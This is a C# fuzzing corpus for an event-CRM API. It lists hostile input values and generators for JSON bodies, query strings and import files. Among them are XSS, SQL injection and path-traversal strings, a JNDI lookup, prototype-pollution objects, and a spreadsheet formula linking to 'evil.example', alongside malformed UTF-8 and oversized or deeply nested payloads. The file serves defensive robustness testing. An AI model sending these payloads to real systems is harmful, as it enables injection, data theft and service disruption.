using System.Text;

namespace EventCrm.Fuzz;

/// <summary>
/// The corpus: values an attacker (or a careless client) sends, by what the schema says a place holds. JSON values
/// are raw JSON text (bytes, since some are not valid UTF-8); query and path values are raw text that the generator
/// percent-encodes, or not. Nothing here contains a name the leak check looks for (a .NET type name), so a leak found
/// in an answer is never an echo of the request.
/// </summary>
public static class Hostile
{
    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static string Quote(string text) => System.Text.Json.JsonSerializer.Serialize(text);

    /// <summary>Text that is hostile anywhere text goes.</summary>
    public static readonly string[] Texts =
    [
        "", " ", "   \t  ", "a\u0000b", "\u0000", "\u0007bell", "line\r\nbreak", "tab\there", "\u007f", "\u0085next", "\u2028sep",
        "\u202Eevil\u202C", "zero\u200Bwidth", "\uFEFFbom", "e\u0301\u0301\u0301", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "😀🙃", "ﷺ", "Ǆǅǆ", "İı",
        "<script>alert(1)</script>", "' OR 1=1 --", "\"; DROP TABLE customers; --", "=HYPERLINK(\"http://evil.example\",\"x\")",
        "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "../../etc/passwd", "..\\..\\windows\\win.ini", "%00", "%2e%2e%2f", "{{7*7}}", "${jndi:ldap://x/a}",
        "__proto__", "constructor", "$type", "null", "undefined", "NaN", "true", "0", "-0", "1e400", "0x10", "١٢٣",
        new string('a', 10_000), new string('é', 3000), string.Concat(Enumerable.Repeat("a,", 500)),
    ];

    /// <summary>Escapes a JSON string may carry that are not text: a NUL, lone halves of surrogate pairs.</summary>
    public static readonly string[] JsonEscapes = ["\"\\u0000\"", "\"a\\u0000\"", "\"\\ud800\"", "\"\\udc00x\"", "\"\\ud83d\"", "\"\\uDFFF\\uD800\""];

    /// <summary>Strings whose bytes are not UTF-8: a lone continuation, a truncated sequence, an overlong slash, an encoded surrogate.</summary>
    public static readonly byte[][] NotUtf8 =
    [
        [0x22, 0x80, 0x22], [0x22, 0xC3, 0x28, 0x22], [0x22, 0xFF, 0xFE, 0x22], [0x22, 0xC0, 0xAF, 0x22],
        [0x22, 0xED, 0xA0, 0x80, 0x22], [0x22, 0x61, 0xF0, 0x9F, 0x22], [0x22, 0xE9, 0x22],
    ];

    public static readonly string[] Numbers =
    [
        "1e400", "-1e400", "1e-400", "NaN", "Infinity", "-Infinity", "\"NaN\"", "\"Infinity\"", "\"-Infinity\"", "-0", "0", "-1",
        "1.5", "0.0000001", "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808",
        "-9223372036854775809", "123456789012345678901234567890", "79228162514264337593543950336", "1e308", "1.7976931348623157e309",
        "01", "+1", ".5", "5.", "1_000", "0x1F", "\"12\"", "\"1e400\"", "\" 7 \"", "\"\"", "true", "[]", "{}", "\"7\\u0000\"",
    ];

    public static readonly string[] Dates =
    [
        "0001-01-01", "0001-05-01", "9999-12-31", "10000-01-01", "-0001-01-01", "1799-12-31", "1800-01-01", "2999-12-31", "3000-01-01",
        "2026-02-30", "2025-02-29", "2026-13-01", "2026-00-10", "2026-1-5", "20260501", "2026-W18", "May 1, 2026", "01/05/2026",
        "2026-05-01T25:00:00Z", "2026-05-01T10:00:00+25:00", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00",
        "9999-12-31T23:59:59.9999999Z", "0001-01-01T00:00:00Z", "2026-05-01T10:00:00", "2026-05-01 10:00", "+275760-09-13T00:00:00Z",
        "24:00", "25:61", "00:00", "-01:00", "", " ", "now", "today", "2026-05-01\u0000",
    ];

    public static readonly string[] Ids =
    [
        "00000000-0000-0000-0000-000000000000", "{00000000-0000-0000-0000-000000000000}", "(00000000-0000-0000-0000-000000000000)",
        "00000000000000000000000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "0190a6e4-8f0c-7a52-9d1f-3c2b4a6e8d1",
        "0190a6e4-8f0c-7a52-9d1f-3c2b4a6e8d10x", " 0190a6e4-8f0c-7a52-9d1f-3c2b4a6e8d10 ", "0190A6E4-8F0C-7A52-9D1F-3C2B4A6E8D10",
        "{0x0190a6e4,0x8f0c,0x7a52,{0x9d,0x1f,0x3c,0x2b,0x4a,0x6e,0x8d,0x10}}", "not-an-id", "1", "-1", "..", ".", "",
    ];

    /// <summary>Paging, sorting and list parameters: the shapes issue 15 found and their neighbours.</summary>
    public static readonly string[] QueryShapes =
    [
        "2147483647", "2147483648", "-2147483648", "-1", "0", "20000000", "99999999999999999999", "1e3", "1.0", " 1", "1 ", "+5",
        "--name", "---totalSpent", "-name", "name,name", "age,age", "age,,age", ",", ",,,", "+name", "name desc", "name;drop",
        "a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p,q,r,s,t,u,v,w,x,y,z", "999", "1", "true", "null", "%", "%%", "*", "?", "#", "&", "=",
    ];

    /// <summary>Values that stand in for members of a JSON body whatever their type (raw JSON).</summary>
    public static readonly string[] AnyJson =
    [
        "null", "true", "false", "0", "\"\"", "[]", "{}", "[null]", "[[[[[[[[[[]]]]]]]]]]", "{\"$type\":\"x\"}", "{\"$ref\":\"#\"}",
        "{\"$id\":\"1\",\"$values\":[]}", "{\"__proto__\":{\"admin\":true}}", "\"\\u0000\"", "1e400", "[1,\"a\",{},null]",
    ];

    /// <summary>Members no command has, which some serialisers treat specially.</summary>
    public static readonly string[] UnknownMembers = ["$type", "__proto__", "constructor", "$id", "$ref", "$values", "prototype", "", "\\u0000", "a.b", "[0]"];

    public static byte[] Json(string raw) => Utf8(raw);

    /// <summary>A hostile JSON value for a place whose schema is known: its type's corpus, another type's, or anything.</summary>
    public static byte[] ValueFor(Schema schema, Random random)
    {
        var pick = random.Next(10);
        if (pick == 0) return Json(random.Pick(AnyJson));
        if (pick == 1) return random.Pick(NotUtf8);
        if (pick == 2) return Json(random.Pick(JsonEscapes));
        if (schema.Enum.Count > 0)
            return Json(random.Pick(["999", "0", "-1", "1.5", "\"999\"", "\"\"", Quote(schema.Enum[0].ToUpperInvariant()), Quote(" " + schema.Enum[0]),
                Quote(string.Join(',', schema.Enum)), Quote(schema.Enum[0] + "\u0000"), "[" + Quote(schema.Enum[0]) + "]", Quote("unknown")]));
        return schema.Kind switch
        {
            Kind.Integer or Kind.Number => Json(random.Pick(Numbers)),
            Kind.Boolean => Json(random.Pick(["\"true\"", "1", "0", "\"yes\"", "\"\"", "tru", "True"])),
            Kind.Array => Json(random.Pick(["{}", "\"a,b\"", "[" + string.Join(',', Enumerable.Repeat("\"x\"", 10_000)) + "]",
                "[" + string.Join(',', Enumerable.Repeat("\"dup\"", 50)) + "]", "[[\"nested\"]]", "[null,null]", "[\"\\u0000\"]", "[1e400]", "[{}]"])),
            Kind.Object => Json(random.Pick(["[]", "\"x\"", "1", "{\"\":1}", Nest(100, '{'), "{\"a\":" + Nest(80, '[') + "}"])),
            _ when schema.Format is "uuid" => Json(Quote(random.Pick(Ids))),
            _ when schema.Format is "date" or "date-time" or "time" => Json(Quote(random.Pick(Dates))),
            _ => Json(Quote(random.Pick(Texts))),
        };
    }

    /// <summary>Something only a query string or a path can carry, as it appears on the wire (already encoded).</summary>
    public static string EncodedFor(Schema schema, Random random)
    {
        var pick = random.Next(8);
        if (pick == 0) return random.Pick(["%00", "a%00b", "%01", "%7F", "%C2%85", "%0D%0A", "%ED%A0%80", "%FF", "%C3%28", "%C0%AF", "%E2%80%AE", "%EF%BB%BF", "%", "%zz", "%2"]);
        if (pick == 1) return Uri.EscapeDataString(random.Pick(QueryShapes));
        string raw = schema.Enum.Count > 0
            ? random.Pick(["1", "999", "-1", schema.Enum[0].ToUpperInvariant(), string.Join(',', schema.Enum), schema.Enum[0] + " ", "unknown", ""])
            : schema.Kind switch
            {
                Kind.Integer or Kind.Number => random.Pick(Numbers).Trim('"'),
                Kind.Boolean => random.Pick(["yes", "1", "0", "TRUE", "", "on", "null"]),
                _ when schema.Format is "uuid" => random.Pick(Ids),
                _ when schema.Format is "date" or "date-time" or "time" => random.Pick(Dates),
                _ => random.Pick(Texts),
            };
        return Uri.EscapeDataString(raw);
    }

    /// <summary>Nesting <paramref name="depth"/> levels deep: <c>[[[...]]]</c> or <c>{"a":{"a":...}}</c>.</summary>
    public static string Nest(int depth, char open)
    {
        var text = new StringBuilder(depth * 6);
        for (var i = 0; i < depth; i++) text.Append(open == '[' ? "[" : "{\"a\":");
        text.Append(open == '[' ? "1" : "1");
        for (var i = 0; i < depth; i++) text.Append(open == '[' ? ']' : '}');
        return text.ToString();
    }

    public static string Huge(int bytes) => new('x', bytes);

    // --- files an import might receive -------------------------------------------------------------------------------

    /// <summary>Import files: CSV and JSON that are malformed, enormous in one dimension, or hostile in content.</summary>
    public static byte[] ImportFile(Random random, string email)
    {
        return random.Next(22) switch
        {
            0 => Utf8(string.Join(',', Enumerable.Repeat("a", 200_001)) + "\n"),
            1 => Utf8("email,name\n" + email + "," + string.Join(',', Enumerable.Repeat("x", 200_001)) + "\n"),
            2 => [.. Utf8("email,name\n" + email + ",M"), 0xFC, .. Utf8("ller\n")],
            3 => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("email,name\n" + email + ",Ada\n")],
            4 => [0xEF, 0xBB, 0xBF],
            5 => Utf8("email\n"),
            6 => Utf8("email,name\n" + email + ",a\u0000b\n"),
            7 => Utf8("email,name,industry\n" + email + ",Ada,=HYPERLINK(\"http://evil.example\",\"x\")\n"),
            8 => Utf8("email,name\n\"" + email + ",Ada\n"),
            9 => Utf8("email;name\r" + email + ";Ada\r"),
            10 => Utf8("[" + "{\"email\":\"" + email + "\",\"name\":\"Ada\"}" + "]"),
            11 => [.. Utf8("[{\"email\":\"" + email + "\",\"name\":\"M"), 0xFC, .. Utf8("ller\"}]")],
            12 => Utf8("[{\"email\":\"" + email + "\",\"name\":\"\\u0000\"}]"),
            13 => Utf8("[{\"email\":\"" + email + "\",\"name\":\"\\ud800\"}]"),
            14 => Utf8("[{\"email\":\"" + email + "\",\"name\":" + Nest(5000, '[') + "}]"),
            15 => Utf8("[{" + string.Join(',', Enumerable.Range(0, 200_001).Select(i => $"\"c{i}\":1")) + "}]"),
            16 => Utf8("{\"email\":\"" + email + "\"}"),
            17 => Utf8("[1,2,3]"),
            18 => Utf8("[{\"email\":\"" + email + "\",\"age\":1e400,\"annualIncome\":NaN}]"),
            19 => Utf8("[{\"email\":\"" + email + "\",\"email\":\"other@example.com\"}]"),
            20 => Utf8("email,name\n" + email + "," + new string('x', 300_000) + "\n"),
            _ => Utf8("[" + Nest(5000, '[') + "]"),
        };
    }

    public static T Pick<T>(this Random random, IReadOnlyList<T> items) => items[random.Next(items.Count)];
}
